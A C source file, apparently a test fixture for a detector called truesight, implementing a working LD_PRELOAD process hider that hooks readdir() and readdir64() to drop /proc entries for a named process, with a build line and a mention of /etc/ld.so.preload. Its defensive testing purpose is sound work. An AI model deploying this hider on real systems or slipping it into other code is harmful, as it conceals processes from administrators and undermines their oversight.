/*
 * A process hider for truesight's tests, compiled by the tests with gcc and
 * never shipped. Preloaded into a program (LD_PRELOAD or /etc/ld.so.preload)
 * it makes readdir() and readdir64() skip every procfs entry whose process
 * is named HIDE_NAME, the way publicly known process hiders do, so that ps,
 * top and ls /proc stop showing it.
 *
 * Build: gcc -shared -fPIC -O2 -DHIDE_NAME='"name"' -o libhider.so hider.c -ldl
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <string.h>
#include <sys/statfs.h>
#include <unistd.h>

#ifndef HIDE_NAME
#error "define HIDE_NAME, the comm of the processes to hide"
#endif

#define PROC_MAGIC 0x9fa0

/* is_hidden reports whether entry name of the directory stream d is a
 * process directory of procfs whose comm is HIDE_NAME. */
static int is_hidden(DIR *d, const char *name)
{
	struct statfs sfs;
	char path[64], comm[64];
	int fd, dfd;
	ssize_t n;

	if (name[0] < '1' || name[0] > '9')
		return 0;
	dfd = dirfd(d);
	if (dfd < 0 || fstatfs(dfd, &sfs) != 0 || sfs.f_type != PROC_MAGIC)
		return 0;
	if (strlen(name) > 20)
		return 0;
	strcpy(path, name);
	strcat(path, "/comm");
	fd = openat(dfd, path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	n = read(fd, comm, sizeof(comm) - 1);
	close(fd);
	if (n <= 0)
		return 0;
	comm[n] = 0;
	if (comm[n - 1] == '\n')
		comm[n - 1] = 0;
	return strcmp(comm, HIDE_NAME) == 0;
}

struct dirent *readdir(DIR *d)
{
	static struct dirent *(*next)(DIR *);
	struct dirent *e;

	if (!next)
		next = (struct dirent *(*)(DIR *))dlsym(RTLD_NEXT, "readdir");
	do
		e = next(d);
	while (e && is_hidden(d, e->d_name));
	return e;
}

struct dirent64 *readdir64(DIR *d)
{
	static struct dirent64 *(*next)(DIR *);
	struct dirent64 *e;

	if (!next)
		next = (struct dirent64 *(*)(DIR *))dlsym(RTLD_NEXT, "readdir64");
	do
		e = next(d);
	while (e && is_hidden(d, e->d_name));
	return e;
}
